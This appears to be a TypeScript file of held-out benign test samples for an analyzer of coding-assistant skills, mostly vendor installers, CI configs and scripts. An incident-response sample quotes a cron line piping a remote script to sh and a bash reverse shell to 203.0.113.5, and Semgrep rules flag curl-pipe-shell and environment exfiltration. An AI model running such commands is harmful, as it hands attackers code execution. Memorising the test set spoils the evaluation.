/**
 * Sixth skills batch, HELD-OUT third: benign samples. Written on 2026-11-29
 * with the development part, by helper code9, before the analyzer was run on
 * any of them; the side was chosen by `thirdOf(id)`. Never read while working
 * on the analyzer.
 */
import { benign, plugin, skill } from '../../skills/build.ts';
import { json, type Code6Sample } from '../classes.ts';

export const HELD_OUT6_BENIGN: Code6Sample[] = [
  benign('b-rustup-readme', 'vendor-installer', 'a README installing Rust with rustup’s documented command', plugin('cargo-helper', 'Explain cargo errors and fix them.', {
    'README.md': `# cargo-helper

Explains \`cargo build\` errors and proposes a fix.

## Requirements

A Rust toolchain. If you have none, install it with rustup:

\`\`\`bash
curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y
source "$HOME/.cargo/env"
\`\`\`

## Use

Run \`/cargo-fix\` after a failed build.
`,
    'commands/cargo-fix.md': '---\ndescription: Explain the last cargo error\n---\n\nRun `cargo build --message-format short 2>&1 | head -50` and explain the first error.\n',
  })),
  benign('b-homebrew-install', 'vendor-installer', 'a SKILL.md installing Homebrew with its documented script then packages', skill('mac-setup', 'Set up a new Mac for development.', `
# Mac setup

1. Install Homebrew (from brew.sh):

   \`\`\`bash
   /bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"
   \`\`\`

2. Install the tools:

   \`\`\`bash
   brew install git gh jq ripgrep fd node python@3.12
   brew install --cask visual-studio-code iterm2
   \`\`\`

3. Check: \`brew doctor\`.
`)),
  benign('b-uv-install-sh', 'vendor-installer', 'a SKILL.md installing uv with its documented script', skill('py-project', 'Start a Python project with uv.', `
# New Python project

If \`uv\` is missing:

\`\`\`bash
curl -LsSf https://astral.sh/uv/install.sh | sh
\`\`\`

Then:

\`\`\`bash
uv init --package "$NAME"
cd "$NAME" && uv add --dev pytest ruff
uv run pytest -q
\`\`\`
`)),
  benign('b-dockerfile-rustup', 'container-ci', 'a Dockerfile in a skill installing rustup with a curl pipe in RUN', skill('rust-container', 'Build a small container for a Rust service.', `
# Rust container

Build with \`docker build -t svc -f docker/Dockerfile .\`.
`, {
    'docker/Dockerfile': `FROM debian:bookworm-slim AS build
RUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates build-essential && rm -rf /var/lib/apt/lists/*
RUN curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y --profile minimal
ENV PATH="/root/.cargo/bin:\${PATH}"
WORKDIR /src
COPY . .
RUN cargo build --release

FROM gcr.io/distroless/cc-debian12
COPY --from=build /src/target/release/svc /svc
ENTRYPOINT ["/svc"]
`,
  })),
  benign('b-gitlab-ci-curl', 'container-ci', 'a .gitlab-ci.yml example installing a vendor CLI with curl in a job script', skill('gitlab-deploy', 'Add a Fly.io deploy job to GitLab CI.', `
# GitLab deploy to Fly.io

Add to \`.gitlab-ci.yml\`:

\`\`\`yaml
deploy:
  stage: deploy
  image: debian:bookworm-slim
  only: [main]
  script:
    - apt-get update && apt-get install -y curl
    - curl -L https://fly.io/install.sh | sh
    - /root/.fly/bin/flyctl deploy --remote-only
  variables:
    FLY_API_TOKEN: $FLY_API_TOKEN
\`\`\`

Set \`FLY_API_TOKEN\` as a masked CI variable.
`)),
  benign('b-devcontainer-nvm', 'container-ci', 'a devcontainer.json whose postCreateCommand installs nvm and node', plugin('devcontainer-node', 'A devcontainer for Node projects.', {
    '.devcontainer/devcontainer.json': json({
      name: 'node-dev',
      image: 'mcr.microsoft.com/devcontainers/base:bookworm',
      postCreateCommand: 'curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash && . ~/.nvm/nvm.sh && nvm install --lts && npm ci',
      customizations: { vscode: { extensions: ['dbaeumer.vscode-eslint'] } },
    }),
    'README.md': '# devcontainer-node\n\nA devcontainer for Node projects: nvm, the LTS Node, ESLint.\n\nCopy `.devcontainer/` into your project and reopen it in the container.\n',
  })),
  benign('b-release-tarball-sha', 'cdn-download', 'a script downloading a release tarball from GitHub, checking its sha256, unpacking it', skill('shellcheck-install', 'Install a pinned ShellCheck binary.', `
# ShellCheck

Run \`bash scripts/install.sh\`.
`, {
    'scripts/install.sh': `#!/usr/bin/env bash
set -euo pipefail
v=v0.10.0
url="https://github.com/koalaman/shellcheck/releases/download/$v/shellcheck-$v.linux.x86_64.tar.xz"
sum=6c881ab0698e4e6ea235245f22832860544f17ba386442fe7e9d629f8cbedf87
tmp=$(mktemp -d)
curl -fsSL -o "$tmp/sc.tar.xz" "$url"
echo "$sum  $tmp/sc.tar.xz" | sha256sum -c -
tar -xJf "$tmp/sc.tar.xz" -C "$tmp"
install -m 755 "$tmp/shellcheck-$v/shellcheck" ~/.local/bin/shellcheck
shellcheck --version
`,
  })),
  benign('b-fonts-download', 'cdn-download', 'a script downloading web fonts from a font CDN into the site', skill('self-host-fonts', 'Self-host the web fonts of a site.', `
# Self-host fonts

\`\`\`bash
mkdir -p public/fonts
for w in 400 600 700; do
  curl -fsSL -o "public/fonts/inter-$w.woff2" "https://cdn.jsdelivr.net/fontsource/fonts/inter@latest/latin-$w-normal.woff2"
done
ls -la public/fonts
\`\`\`

Then replace the font \`<link>\` with \`@font-face\` rules pointing at \`/fonts/\`.
`)),
  benign('b-pip-git-own', 'own-clone', 'a README installing the project itself from its GitHub repository for development', skill('notebook-lint', 'Lint Jupyter notebooks.', `
# Notebook lint

Install the released version with \`pip install nblint-tools\`, or the development version of this skill's package:

\`\`\`bash
pip install "git+https://github.com/nblint/nblint-tools.git@main"
\`\`\`

Run \`nblint notebooks/\` and report cells with errors or outputs over 1 MB.
`)),
  benign('b-cloudflare-api', 'own-provider', 'a script purging the Cloudflare cache with CLOUDFLARE_API_TOKEN', skill('cdn-purge', 'Purge the CDN cache after a deploy.', `
# Purge the cache

\`\`\`bash
curl -fsS -X POST "https://api.cloudflare.com/client/v4/zones/$CF_ZONE_ID/purge_cache" \\
  -H "Authorization: Bearer $CLOUDFLARE_API_TOKEN" \\
  -H "Content-Type: application/json" \\
  --data '{"purge_everything":true}' | jq '.success'
\`\`\`
`)),
  benign('b-ts-rss-reader', 'fetch-heavy', 'a TypeScript script fetching RSS feeds listed in a file', plugin('feed-digest', 'A daily digest of your RSS feeds.', {
    'scripts/digest.ts': `import { readFileSync } from 'node:fs';

const feeds = readFileSync(process.argv[2] ?? 'feeds.txt', 'utf8').split('\\n').filter(Boolean);
const since = Date.now() - 86_400_000;
for (const feed of feeds) {
  const res = await fetch(feed, { headers: { 'user-agent': 'feed-digest/1.0' } }).catch(() => null);
  if (!res?.ok) { console.log(\`! \${feed}\`); continue; }
  const xml = await res.text();
  for (const item of xml.split('<item>').slice(1)) {
    const title = /<title>(?:<!\\[CDATA\\[)?(.*?)(?:\\]\\]>)?<\\/title>/.exec(item)?.[1];
    const date = Date.parse(/<pubDate>(.*?)<\\/pubDate>/.exec(item)?.[1] ?? '');
    if (title && date > since) console.log(\`- \${title}\`);
  }
}
`,
    'commands/digest.md': '---\ndescription: Today\'s feed digest\n---\n\nRun `npx tsx ${CLAUDE_PLUGIN_ROOT}/scripts/digest.ts ~/.config/feeds.txt` and group the titles by topic.\n',
  })),
  benign('b-py-httpx-pages', 'fetch-heavy', 'a Python script paging through a public API with httpx and retries', skill('gh-stars', 'List the most starred repositories of a topic.', `
# Stars by topic

Run \`python3 scripts/stars.py rust-cli\`.
`, {
    'scripts/stars.py': `import sys
import time

import httpx

topic = sys.argv[1]
out = []
with httpx.Client(base_url="https://api.github.com", timeout=20) as c:
    for page in range(1, 4):
        for attempt in range(3):
            r = c.get("/search/repositories", params={"q": f"topic:{topic}", "sort": "stars", "per_page": 50, "page": page})
            if r.status_code != 403:
                break
            time.sleep(2 ** attempt)
        r.raise_for_status()
        out += [(i["stargazers_count"], i["full_name"]) for i in r.json()["items"]]
for stars, name in sorted(out, reverse=True)[:25]:
    print(f"{stars:>7}  {name}")
`,
  })),
  benign('b-ts-status-checker', 'fetch-heavy', 'a TypeScript MCP server checking status pages of services', plugin('status-check', 'Check the status pages of the services you use.', {
    '.mcp.json': json({ mcpServers: { status: { command: 'npx', args: ['-y', 'tsx', '${CLAUDE_PLUGIN_ROOT}/server.ts'] } } }),
    'server.ts': `import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
import { StdioServerTransport } from '@modelcontextprotocol/sdk/server/stdio.js';
import { z } from 'zod';

const PAGES: Record<string, string> = {
  github: 'https://www.githubstatus.com/api/v2/status.json',
  anthropic: 'https://status.anthropic.com/api/v2/status.json',
  cloudflare: 'https://www.cloudflarestatus.com/api/v2/status.json',
};
const server = new McpServer({ name: 'status-check', version: '1.1.0' });
server.tool('status', 'Current status of a service', { service: z.enum(['github', 'anthropic', 'cloudflare']) }, async ({ service }) => {
  const res = await fetch(PAGES[service]!, { signal: AbortSignal.timeout(8000) });
  const j = (await res.json()) as { status: { description: string } };
  return { content: [{ type: 'text', text: \`\${service}: \${j.status.description}\` }] };
});
await server.connect(new StdioServerTransport());
`,
    'README.md': '# status-check\n\nAsk whether GitHub, Anthropic or Cloudflare is having an incident.\n\nInstall the plugin; the server starts with Claude Code.\n',
  })),
  benign('b-clean-build-dirs', 'cleanup', 'a SKILL.md cleaning build outputs of the project with rm -rf', skill('fresh-build', 'Rebuild a JavaScript project from a clean state.', `
# Fresh build

At the repository root:

\`\`\`bash
rm -rf dist build .next .turbo coverage node_modules/.cache
npm ci
npm run build
\`\`\`

If the build still fails, show the first error and the file it names.
`)),
  benign('b-git-clean-project', 'cleanup', 'git clean of ignored files in the current repository, after a dry run', skill('repo-reset', 'Reset a repository to a clean checkout.', `
# Repository reset

1. Show what would go: \`git clean -ndX\`
2. Ask the user to confirm.
3. Remove ignored files: \`git clean -fdX\`
4. Restore tracked files: \`git restore --staged --worktree .\`

Never run this outside the repository the user is working in.
`)),
  benign('b-sec-semgrep-curl-sh', 'security-docs', 'Semgrep rules flagging curl-pipe-shell and env exfiltration, with examples', skill('semgrep-ci-rules', 'Semgrep rules for risky CI and install scripts.', `
# Semgrep CI rules

Run \`semgrep --config rules/ .\` and explain each match.
`, {
    'rules/install.yaml': `rules:
  - id: curl-pipe-shell
    message: A script downloaded and run in one step; pin and verify it instead.
    languages: [bash]
    severity: WARNING
    pattern-either:
      - pattern: curl ... | sh
      - pattern: curl ... | bash
      - pattern: wget -qO- ... | sh
  - id: env-posted
    message: The whole environment is sent over the network.
    languages: [javascript, typescript]
    severity: ERROR
    pattern: fetch($URL, {..., body: JSON.stringify(process.env), ...})
`,
    'tests/curl-pipe-shell.sh': `# ruleid: curl-pipe-shell
curl -fsSL https://example.invalid/install.sh | sh
# ok: curl-pipe-shell
curl -fsSL -o install.sh https://example.invalid/install.sh && sha256sum -c install.sh.sha256
`,
  })),
  benign('b-sec-incident-cron', 'security-docs', 'an incident-response skill explaining how attackers persist in cron and profiles and how to check', skill('ir-persistence', 'Look for persistence after a suspected compromise.', `
# Persistence hunt

Attackers who got a shell often leave a way back in. Common places:

- a crontab line such as \`* * * * * curl -s http://203.0.113.5/x | sh\`
- a line appended to \`~/.bashrc\` or \`~/.profile\`, e.g. \`bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 &\`
- a key added to \`~/.ssh/authorized_keys\`
- a systemd user unit in \`~/.config/systemd/user/\`

Check each, read-only:

\`\`\`bash
crontab -l; ls -la /etc/cron.*
tail -n 20 ~/.bashrc ~/.profile ~/.zshrc 2>/dev/null
cat ~/.ssh/authorized_keys
ls -la ~/.config/systemd/user/ 2>/dev/null
\`\`\`

Report anything that downloads, opens a connection or was changed recently. Do not delete anything; the user decides.
`)),
  benign('b-pip-requirements-real', 'registry-install', 'a requirements.txt with popular packages pinned, installed in a venv', skill('etl-job', 'Run the nightly ETL job locally.', `
# ETL job

\`\`\`bash
python3 -m venv .venv && . .venv/bin/activate
pip install -r requirements.txt
python etl.py --date "$(date -d yesterday +%F)"
\`\`\`
`, {
    'requirements.txt': 'requests==2.32.3\npandas==2.2.3\nSQLAlchemy==2.0.36\npsycopg[binary]==3.2.3\npython-dateutil==2.9.0.post0\ncolorama==0.4.6\n',
    'etl.py': `import argparse

import pandas as pd
import requests
from sqlalchemy import create_engine

p = argparse.ArgumentParser()
p.add_argument("--date", required=True)
a = p.parse_args()
rows = requests.get("https://api.example.com/orders", params={"date": a.date}, timeout=30).json()
pd.DataFrame(rows).to_sql("orders", create_engine("postgresql+psycopg://localhost/warehouse"), if_exists="append", index=False)
print(len(rows), "rows")
`,
  })),
  benign('b-package-json-husky', 'registry-install', 'a package.json with a prepare script installing husky and popular dependencies', plugin('commit-lint', 'Lint commit messages with commitlint.', {
    'package.json': json({
      name: 'commit-lint-plugin',
      version: '1.0.0',
      private: true,
      scripts: { prepare: 'husky', lint: 'eslint .', test: 'vitest run' },
      devDependencies: { '@commitlint/cli': '^19.5.0', '@commitlint/config-conventional': '^19.5.0', husky: '^9.1.6', 'cross-env': '^7.0.3', axios: '^1.7.7', eslint: '^9.12.0', vitest: '^2.1.3' },
    }),
    'commands/commit-lint.md': '---\ndescription: Check the last commit message\n---\n\nRun `npx commitlint --from HEAD~1 --to HEAD --verbose` and explain what to change.\n',
  })),
  benign('b-composer-real', 'registry-install', 'a composer.json with popular packages and standard scripts', skill('php-test', 'Run a PHP project’s tests.', `
# PHP tests

\`\`\`bash
composer install --no-interaction
composer test
\`\`\`
`, {
    'composer.json': json({
      name: 'acme/shop',
      require: { php: '^8.2', 'guzzlehttp/guzzle': '^7.9', 'monolog/monolog': '^3.7' },
      'require-dev': { 'phpunit/phpunit': '^11.4' },
      scripts: { test: 'phpunit --colors=always', 'post-autoload-dump': ['@php artisan package:discover --ansi'] },
    }),
  })),
  benign('b-poetry-real', 'registry-install', 'a Poetry pyproject with popular dependencies and the default source', skill('api-server', 'Run the FastAPI server in development.', `
# API server

\`\`\`bash
poetry install
poetry run uvicorn app.main:app --reload --host 127.0.0.1
\`\`\`
`, {
    'pyproject.toml': `[tool.poetry]
name = "api-server"
version = "0.4.0"
description = "Orders API"
authors = ["Backend team"]

[tool.poetry.dependencies]
python = "^3.12"
fastapi = "^0.115"
uvicorn = { extras = ["standard"], version = "^0.32" }
pydantic-settings = "^2.6"

[tool.poetry.group.dev.dependencies]
pytest = "^8.3"
httpx = "^0.27"
`,
  })),
];
